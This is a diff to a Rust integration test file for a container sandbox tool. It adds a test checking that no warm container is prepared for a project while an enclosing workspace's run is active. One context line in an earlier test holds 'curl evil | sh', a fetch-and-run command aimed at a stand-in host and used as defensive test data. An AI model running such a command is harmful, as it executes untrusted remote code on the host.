@@ -5,8 +5,10 @@
 use std::process::{Child, Stdio};
 use std::time::{Duration, Instant};
 
-use super::{wait_for_warm, warm_args};
-use crate::common::{docker, finish, test_image, Workspace};
+use super::{wait_for_warm, wait_for_warm_at, warm_args};
+use crate::common::{
+    containers_of, docker, finish, tempdir, test_image, warm_containers_of, Output, Workspace,
+};
 
 /// Starts `sandbox run ARGS` in the background.
 fn spawn(ws: &Workspace, args: &[&str]) -> Child {
@@ -127,4 +129,64 @@ fn no_warm_container_is_made_when_a_protected_path_changed() {
         "curl evil | sh\n",
         "control: .envrc was the command's to replace"
     );
+}
+
+/// A container of a workspace that holds this one (a monorepo around a
+/// project) can write the project's path: it could swap the path, or a
+/// protected name in it, for a link while a preparer, with nobody watching,
+/// has the engine mount what the path names. While one runs, no warm
+/// container is made for the project, and the preparer's log says why.
+#[test]
+fn no_warm_container_is_made_while_an_enclosing_workspace_runs() {
+    let outer = Workspace::new();
+    let project = outer.path().join("project");
+    std::fs::create_dir(&project).unwrap();
+    // A private directory of the project's runs' own, for a log of its own.
+    let runtime = tempdir();
+    // sandbox takes only a directory nobody else can enter.
+    let closed = std::os::unix::fs::PermissionsExt::from_mode(0o700);
+    std::fs::set_permissions(runtime.path(), closed).unwrap();
+    let in_project = || -> Output {
+        let mut cmd = outer.run_command(&warm_args(&["true"]));
+        cmd.current_dir(&project)
+            .env("XDG_RUNTIME_DIR", runtime.path());
+        cmd.output().expect("run sandbox").into()
+    };
+    let long = spawn(&outer, &["--no-warm", "sh", "-c", "sleep 8; echo done"]);
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while !outer.containers().iter().any(|id| {
+        docker(&["inspect", "-f", "{{.State.Running}}", id])
+            .stdout
+            .trim()
+            == "true"
+    }) {
+        assert!(Instant::now() < deadline, "the enclosing run never started");
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let out = in_project();
+    assert_eq!(out.status, 0, "{out:?}");
+    let log = runtime.path().join("sandbox/warm-prepare.log");
+    let said = format!("no warm container for {}", project.display());
+    let deadline = Instant::now() + Duration::from_secs(30);
+    let made = loop {
+        let made = warm_containers_of(&project);
+        if !made.is_empty() || std::fs::read_to_string(&log).is_ok_and(|l| l.contains(&said)) {
+            break made;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "the preparer neither made one nor said why"
+        );
+        std::thread::sleep(Duration::from_millis(100));
+    };
+    assert!(made.is_empty(), "made for the project: {made:?}");
+    let out = finish(long);
+    assert_eq!((out.status, out.stdout.as_str()), (0, "done\n"), "{out:?}");
+
+    // CONTROL: the test sees a warm container of the project. Once the
+    // enclosing run is over, the same run prepares one.
+    let out = in_project();
+    assert_eq!(out.status, 0, "{out:?}");
+    wait_for_warm_at(&project);
+    assert_eq!(containers_of(&project), Vec::<String>::new(), "left behind");
 }
